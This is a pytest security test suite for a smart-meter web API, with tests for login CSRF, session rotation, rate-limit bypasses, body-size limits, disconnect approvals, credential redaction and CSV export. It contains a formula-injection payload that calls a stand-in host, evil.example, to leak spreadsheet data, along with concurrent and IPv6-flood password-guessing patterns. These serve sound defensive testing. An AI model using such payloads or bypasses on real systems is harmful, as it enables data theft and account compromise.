"""Attacks on the logins, sessions, rate limit, request bodies, approvals and problem details,
through the real app: each test fails without the defence it names."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import timedelta
from decimal import Decimal

import httpx

from metercom.api import WebSettings
from metercom.api.context import COOKIE
from metercom.api.security import hash_secret
from metercom.model.obis import Obis
from metercom.model.reading import Reading

from .conftest import PASSWORD, START


async def test_login_refuses_bodies_a_foreign_page_can_send(api_env) -> None:
    """Login CSRF: a cross-site form (urlencoded, multipart, text/plain) or a no-cors fetch of a
    Blob (no Content-Type) must not log the victim's browser in; only application/json, which a
    foreign page cannot send without a CORS preflight, is accepted, by the login itself (415),
    not only by the framework's default strictness about JSON content types (422 before)."""
    async with api_env(read=False) as env:
        client = env.client()
        body = json.dumps({"username": "viewer", "password": PASSWORD}).encode()
        for content_type in (None, "text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
            headers = {"Content-Type": content_type} if content_type else {}
            request = client.build_request("POST", "/api/v1/auth/login", content=body, headers=headers)
            assert ("content-type" in request.headers) == (content_type is not None)
            answer = await client.send(request)
            assert answer.status_code == 415, (content_type, answer.status_code, answer.text)
            assert answer.headers["content-type"] == "application/problem+json"
            assert COOKIE not in client.cookies
        answer = await client.post(
            "/api/v1/auth/login",
            content=body,
            headers={"Content-Type": "application/json; charset=utf-8"},
        )
        assert answer.status_code == 200
        assert await env.web.session(hash_secret(client.cookies[COOKIE])) is not None


async def test_login_replaces_the_session_the_browser_had(api_env) -> None:
    """Session rotation: logging in again (another user on a shared browser, or a planted
    cookie) ends the session the request carried instead of leaving it alive."""
    async with api_env(read=False) as env:
        client, _ = await env.login("viewer")
        first = client.cookies[COOKIE]
        answer = await client.post("/api/v1/auth/login", json={"username": "operator", "password": PASSWORD})
        assert answer.status_code == 200
        second = client.cookies[COOKIE]
        assert second != first
        assert await env.web.session(hash_secret(first)) is None
        assert await env.web.session(hash_secret(second)) is not None
        replay = env.client()
        replay.cookies.set(COOKIE, first)
        assert (await replay.get("/api/v1/auth/me")).status_code == 401
        assert (await client.get("/api/v1/auth/me")).json()["user"]["username"] == "operator"


async def test_concurrent_guesses_cannot_outrun_the_login_limit(api_env) -> None:
    """Rate-limit bypass: many wrong passwords sent at once all passed the check before the
    first failure was counted; an attempt now counts while it is being verified."""
    settings = WebSettings(login_max_failures=3, login_window=timedelta(minutes=10))
    async with api_env(settings, read=False) as env:
        clients = [env.client() for _ in range(20)]
        answers = await asyncio.gather(
            *(
                c.post("/api/v1/auth/login", json={"username": "operator", "password": f"guess {n:04d}"})
                for n, c in enumerate(clients)
            )
        )
        statuses = sorted(a.status_code for a in answers)
        assert statuses.count(401) <= 3, statuses
        assert set(statuses) <= {401, 429}, statuses
        answer = await env.client().post(
            "/api/v1/auth/login", json={"username": "operator", "password": PASSWORD}
        )
        assert answer.status_code == 429
        failed = [
            e for e in await env.store.audit_log(action="auth.login", limit=1000) if e.result == "failed"
        ]
        assert len(failed) <= 3


async def test_a_flood_of_made_up_names_does_not_wash_out_a_real_users_failures(api_env) -> None:
    """Rate-limit bypass: the limiter forgets its oldest keys when full, so failures against
    made-up usernames from many addresses (cheap with IPv6) evicted a real account's count and
    bought the attacker fresh guesses; a real account's count now stays until its window ends."""
    settings = WebSettings(login_max_failures=3, login_window=timedelta(minutes=10))
    async with api_env(settings, read=False) as env:
        env.app.state.ctx.limiter.max_keys = 50

        async def attempt(username: str, password: str, address: str) -> int:
            transport = httpx.ASGITransport(app=env.app, client=(address, 40000))
            async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as c:
                answer = await c.post("/api/v1/auth/login", json={"username": username, "password": password})
                return answer.status_code

        assert await attempt("operator", "guess one", "2001:db8::1") == 401
        assert await attempt("operator", "guess two", "2001:db8::2") == 401
        for n in range(60):
            assert await attempt(f"nobody{n}", "whatever", f"2001:db8:1::{n:x}") == 401
        assert await attempt("operator", "guess three", "2001:db8::3") == 401
        assert await attempt("operator", PASSWORD, "2001:db8::4") == 429


async def test_a_blocked_client_cannot_flood_the_audit_log(api_env) -> None:
    """Every refused (rate-limited) login wrote an audit entry: an anonymous client could write
    rows as fast as it could send requests, filling the disk and burying real entries. A block
    is audited once; a new block after the window is audited again."""
    settings = WebSettings(login_max_failures=3, login_window=timedelta(minutes=10))
    async with api_env(settings, read=False) as env:
        client = env.client()
        for n in range(53):
            answer = await client.post(
                "/api/v1/auth/login", json={"username": "operator", "password": f"x{n}"}
            )
            assert answer.status_code == (401 if n < 3 else 429)
        entries = await env.store.audit_log(action="auth.login", limit=1000)
        assert [e.result for e in entries] == ["failed"] * 3 + ["refused"]
        await asyncio.sleep(int(answer.headers["retry-after"]) + 1)
        for n in range(5):
            await client.post("/api/v1/auth/login", json={"username": "operator", "password": f"y{n}"})
        entries = await env.store.audit_log(action="auth.login", limit=1000)
        assert [e.result for e in entries] == (["failed"] * 3 + ["refused"]) * 2


async def test_a_right_password_under_the_limit_costs_the_address_nothing(api_env) -> None:
    """The counting of attempts in flight must not turn successful logins into failures."""
    settings = WebSettings(login_max_failures=3, login_window=timedelta(minutes=10))
    async with api_env(settings, read=False) as env:
        for _ in range(6):
            await env.login("viewer")
        await env.login("operator")


async def test_request_bodies_are_bounded_before_anything_reads_them(api_env) -> None:
    """Memory exhaustion: an anonymous client could post any amount to any route (the body was
    read whole before authentication); now 413 at the declared length, or as soon as a streamed
    body passes the limit."""
    async with api_env(read=False) as env:
        anonymous = env.client()
        huge = b'{"username": "viewer", "password": "' + b"x" * 3_000_000 + b'"}'
        answer = await anonymous.post(
            "/api/v1/auth/login", content=huge, headers={"Content-Type": "application/json"}
        )
        assert answer.status_code == 413
        assert answer.headers["content-type"] == "application/problem+json"
        assert answer.json()["type"].endswith("/too-large")
        sent = 0

        async def stream() -> AsyncIterator[bytes]:
            nonlocal sent
            yield b'{"username": "viewer", "password": "'
            for _ in range(400):
                sent += 10_000
                yield b"x" * 10_000
            yield b'"}'

        answer = await anonymous.post(
            "/api/v1/auth/login", content=stream(), headers={"Content-Type": "application/json"}
        )
        assert answer.status_code == 413
        assert answer.json()["type"].endswith("/too-large")
        # The configuration (administrators, TOML) keeps its larger allowance.
        admin = await env.bearer("admin")
        padded = env.text + "#" + "x" * 200_000 + "\n"
        answer = await admin.post(
            "/api/v1/config/validate", content=padded, headers={"Content-Type": "application/toml"}
        )
        assert answer.status_code == 200
        assert answer.json()["ok"] is True
        answer = await admin.post(
            "/api/v1/config/validate",
            content=env.text + "#" + "x" * 2_100_000,
            headers={"Content-Type": "application/toml"},
        )
        assert answer.status_code == 413


async def test_disconnect_approval_switched_on_by_a_configuration_applies_at_once(api_env) -> None:
    """Four eyes: an administrator who applies ``[web] disconnect_approval = true`` must not be
    left with single-person disconnects until the next restart."""
    async with api_env(read=False) as env:
        admin = await env.bearer("admin")
        text = env.text + "\n[web]\ndisconnect_approval = true\n"
        answer = await admin.post(
            "/api/v1/config", content=text, headers={"Content-Type": "application/toml"}
        )
        assert answer.status_code == 201, answer.text
        operator = await env.bearer("operator")
        answer = await operator.post(
            "/api/v1/meters/flat-2/commands", json={"kind": "disconnect", "confirm": True}
        )
        assert answer.status_code == 202
        held = answer.json()
        assert held["status"] == "awaiting_approval"
        await env.headend.commands.wait_idle()
        assert env.devices["flat-2"].meter.connected
        assert [c for c in await env.store.commands() if c.kind == "disconnect"] == []
        # The requester cannot be the second person through another token or a session.
        second_token = await env.bearer("operator")
        session, csrf = await env.login("operator")
        for client, headers in ((second_token, {}), (session, {"X-CSRF-Token": csrf})):
            answer = await client.post(f"/api/v1/commands/{held['id']}/approve", headers=headers)
            assert answer.status_code == 403
        assert (
            await (await env.bearer("operator2")).post(f"/api/v1/commands/{held['id']}/approve")
        ).status_code == 202


async def test_configuration_problems_do_not_echo_credentials(api_env) -> None:
    """A URL with a password in it, refused for its scheme, was echoed in the problem (and so
    into the answer, proxies' logs and the dashboard)."""
    async with api_env(read=False) as env:
        admin = await env.bearer("admin")
        text = (
            env.text
            + '\n[[upstreams]]\nid = "central"\nkind = "mqtt"\nurl = "htps://meteruser:Hunter2Secret@central.example"\n'
        )
        for path, status in (("/api/v1/config/validate", 200), ("/api/v1/config", 422)):
            answer = await admin.post(path, content=text, headers={"Content-Type": "application/toml"})
            assert answer.status_code == status, answer.text
            assert "Hunter2Secret" not in answer.text
            assert "url" in answer.text
        assert "Hunter2Secret" not in str(await env.store.audit_log(limit=1000))


async def test_csv_exports_never_hand_a_spreadsheet_a_formula(api_env) -> None:
    """CSV injection: text a meter sends (a consumer has their meter at hand) became a live
    formula in the operator's spreadsheet; such cells are now quoted as text."""
    async with api_env(read=False) as env:
        at = START
        formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        await env.store.save_readings(
            "house-1",
            [
                Reading(Obis.parse("0-0:96.1.0*255"), formula, None, at),
                Reading(Obis.parse("1-0:1.8.0*255"), Decimal("-12.5"), "@SUM(A1)", at),
            ],
            capture_time=at,
        )
        consumer = await env.bearer("consumer")
        answer = await consumer.get("/api/v1/meters/house-1/readings", params={"format": "csv"})
        assert answer.status_code == 200
        table = list(csv.reader(io.StringIO(answer.text)))
        cells = {row[1]: row for row in table[1:]}
        assert cells["0-0:96.1.0*255"][3] == "'" + formula
        assert cells["1-0:1.8.0*255"][3] == "-12.5"  # numbers stay numbers
        assert cells["1-0:1.8.0*255"][4] == "'@SUM(A1)"
        assert not any(cell.startswith(("=", "+", "@")) for row in table for cell in row)
        # JSON keeps the values as they are.
        rows = (await consumer.get("/api/v1/meters/house-1/readings")).json()["readings"]
        assert formula in [r["value"] for r in rows]


async def test_metrics_made_private_by_a_configuration_are_private_at_once(api_env) -> None:
    """``[web] metrics_public = false`` applied through the API left /metrics open to anyone
    until the next restart."""
    async with api_env(read=False) as env:
        anonymous = env.client()
        assert (await anonymous.get("/metrics")).status_code == 200
        admin = await env.bearer("admin")
        text = env.text + "\n[web]\nmetrics_public = false\n"
        answer = await admin.post(
            "/api/v1/config", content=text, headers={"Content-Type": "application/toml"}
        )
        assert answer.status_code == 201, answer.text
        assert (await anonymous.get("/metrics")).status_code == 401
        assert (await (await env.bearer("consumer")).get("/metrics")).status_code == 403
        assert (await (await env.bearer("viewer")).get("/metrics")).status_code == 200
